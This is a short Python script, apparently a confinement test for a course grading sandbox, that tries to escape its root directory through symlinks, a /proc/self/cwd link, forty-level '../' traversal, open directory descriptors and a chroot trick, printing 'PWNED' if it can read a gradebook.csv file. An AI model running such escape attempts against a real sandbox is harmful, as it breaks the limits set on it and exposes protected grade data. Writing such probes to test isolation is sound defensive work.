"""Climbs out of its root by links, descriptors and dots."""
import os

here = os.open(".", os.O_RDONLY)
root = os.open("/", os.O_RDONLY)
os.symlink("@COURSE@", "course")
os.symlink("/proc/self/cwd/../../../..", "up")
for name in ("course/gradebook.csv", "up@COURSE@/gradebook.csv", "../" * 40 + "@COURSE@/gradebook.csv"):
    for folder in (here, root):
        try:
            print("PWNED", os.read(os.open(name, os.O_RDONLY, dir_fd=folder), 200))
        except OSError:
            continue
try:
    os.fchdir(root)
    os.chroot(".")
    print("PWNED chroot")
except OSError:
    pass
found = sorted(set(os.listdir("/")) - {"usr", "lib", "lib32", "lib64", "libx32", "bin", "etc", "dev", "proc", "scratch", "root", "work", "opt", "home"})
print("TRIED", found)
